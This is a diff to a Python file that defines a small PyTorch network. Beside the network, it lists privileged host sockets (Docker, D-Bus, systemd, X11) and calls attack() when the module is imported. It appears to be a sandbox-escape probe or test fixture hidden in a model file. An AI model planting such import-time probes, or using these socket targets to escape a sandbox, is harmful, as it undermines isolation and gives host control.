@@ -8,8 +8,14 @@ import torch
 from torch import nn
 
 NAMES = [
-    "\0hostile", "/run/dbus/system_bus_socket", "/run/docker.sock", "/var/run/docker.sock",
-    "/run/systemd/private", f"/run/user/{os.getuid()}/bus", "/tmp/.X11-unix/X0", "\0/tmp/.X11-unix/X0",
+    "\0hostile",
+    "/run/dbus/system_bus_socket",
+    "/run/docker.sock",
+    "/var/run/docker.sock",
+    "/run/systemd/private",
+    f"/run/user/{os.getuid()}/bus",
+    "/tmp/.X11-unix/X0",
+    "\0/tmp/.X11-unix/X0",
 ]
 
 
@@ -61,5 +67,6 @@ class Net(nn.Module):
 
     def forward(self, x):
         return self.layers(x)
+
 
 attack()
